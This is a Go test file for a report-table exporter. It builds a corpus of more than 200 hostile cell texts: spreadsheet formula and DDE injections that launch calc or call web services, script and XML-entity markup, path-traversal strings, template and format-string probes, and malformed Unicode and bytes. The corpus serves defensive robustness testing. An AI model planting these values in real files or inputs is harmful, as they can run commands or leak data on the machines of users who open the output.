package table_test

import (
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"

	"auditd/report/table"
)

// hostile returns texts that have hurt programs which read tables: every formula start behind every blank that a program may skip,
// commands, markup of every format, control characters, directions, long texts, bytes that are no text.
func hostile() []string {
	out := []string{
		"", " ", "'", "''", "'=1+1", `"`, `""`, `"=1+1"`, `";=1+1`, `,=1+1`, "a,b", `a"b`, "a;b", "a;=1+1", "a;\t=1+1", "x\ty", "x\t=1+1",
		"a\nb", "a\n=1+1", "a\r\nb", "a\rb", "a\r=1+1", "\n", "\r", "\r\n", "\t", "\\", `\.`, `\n`, `a\"b`, "  both  ", "trailing ",
		`=cmd|' /C calc'!A0`, `=HYPERLINK("http://example.org?x="&A1,"click")`, `=WEBSERVICE("http://example.org")`, `=DDE("soffice";"x";"y")`,
		`+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=1+1`, `==1`, `=A1`, `=A1:A9`, `={1,2}`, `=#REF!`, "@", "=", "+", "-",
		"-1.5", "+86", "<25", ">65", "00123", "1E5", "1,5", "1.0", "-", "2026-11-21", "3-4", "TRUE", "false", "null", "NULL", "NA", "NaN", "inf", "-inf", "#N/A", "1e400",
		"<b>x</b>", "<script>alert(1)</script>", "</row><row>", "</findings>", "<!-- x -->", "<![CDATA[x]]>", "]]>", "&amp;", "&", "&#0;", "&#x1;", "&lt;", "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY b 'c'>]>&b;",
		`{"a":1}`, `"}]}`, "[1]", "\\u0000", "__proto__", "constructor", "${7*7}", "{{7*7}}", "%s%n", "%00", "../../etc/passwd", `\\server\share`, "file:///etc/passwd", "javascript:alert(1)",
		"_x0001_", "_x005F_", "_x005F_x0001_", "_xD83D_", "_xline_", "_xZZZZ_", "_x000D_", "a_x0041_b", "_x0041", "x0041_", "__x0041__", "_X0041_", "_x0000_",
		"\u202eesrever", "\u2066isolate\u2069", "\u200f=1+1", "\u200e+1", "a\u200bb", "\u00ad-1", "\u2060=1", "\ufeff=1", "\u3000=1", "\u00a0=1", "\u200b=1", "\u2028=1", "\u2029=1", "\u0085=1", "\u180e=1",
		"😀", "👩‍👩‍👧", "🏳️‍🌈", "e\u0301", "女", "男", "汉族 · 其他", "𠮷", "ﷺ", "İ", "ß", "\U0010ffff", "\U000e0001", "\ufffd", "\ufffe", "\uffff", "\ufdd0", "\ue000", "Z̸͑a̷l̶g̶o",
		"\x00", "a\x00b", "\x00=1+1", "\x1b[31mred", "\x7f", "\x80", "\xff", "a\xffb", "\xc0\x80", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xff=1+1", "\xe5\xa5",
		"＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫A", "−5", "|cmd", "%1", "=１＋１",
		strings.Repeat("a", 10_000), strings.Repeat("女", 10_000), strings.Repeat("=1+1;", 2_000), strings.Repeat("\n", 10_000), strings.Repeat("<", 10_000), strings.Repeat("\x01", 4_000),
		strings.Repeat("b", 32_767), strings.Repeat("男", 32_767), strings.Repeat("c", 32_768), strings.Repeat("d", 40_000), strings.Repeat("😀", 20_000), "=" + strings.Repeat("e", 39_999), strings.Repeat("女", 40_000),
	}
	for c := range 32 {
		out = append(out, fmt.Sprintf("c%cc", c), fmt.Sprintf("%c=1+1", c))
	}
	for _, blank := range []string{" ", "\t", "\u00a0", "\u200b", "\ufeff", "\"", "  \u3000"} {
		for _, start := range []string{"=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠"} {
			out = append(out, blank+start+"1+1")
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func TestCorpusIsLargeEnough(t *testing.T) {
	if n := len(hostile()); n < 200 {
		t.Fatalf("%d hostile texts, want at least 200", n)
	}
}

// sample returns a table with every kind of cell, each also without a value, and the hostile texts.
func sample() table.Table {
	t := table.Table{Name: "sample", Title: "Sample <&> of \x01 \u202e cells", Columns: []table.Column{
		{Name: "line", Type: table.Integer, Text: "Number of the line."},
		{Name: "value", Type: table.Text, Text: "Text <of> the \"line\"."},
		{Name: "number", Type: table.Number, Text: "A number."},
		{Name: "truth", Type: table.Boolean, Text: "True or false."},
		{Name: "last", Type: table.Text, Text: "A text in the last column."},
	}}
	integers := []any{int64(0), int64(-1), nil, int64(1) << 53, int64(1)<<53 + 1, -int64(1) << 62, int64(math.MaxInt64)}
	numbers := []any{0.0, -1.5, nil, 0.1, 1e-300, 1e300, 123456789.125, 1e21, 5e-324, 1.7976931348623157e308}
	truths := []any{true, false, nil}
	for i, s := range hostile() {
		t.Rows = append(t.Rows, []any{integers[i%len(integers)], s, numbers[i%len(numbers)], truths[i%len(truths)], s})
	}
	return table.Table{Name: t.Name, Title: t.Title, Columns: t.Columns, Rows: append(t.Rows, []any{nil, nil, nil, nil, nil}, []any{nil, "", 0.0, false, nil})}
}
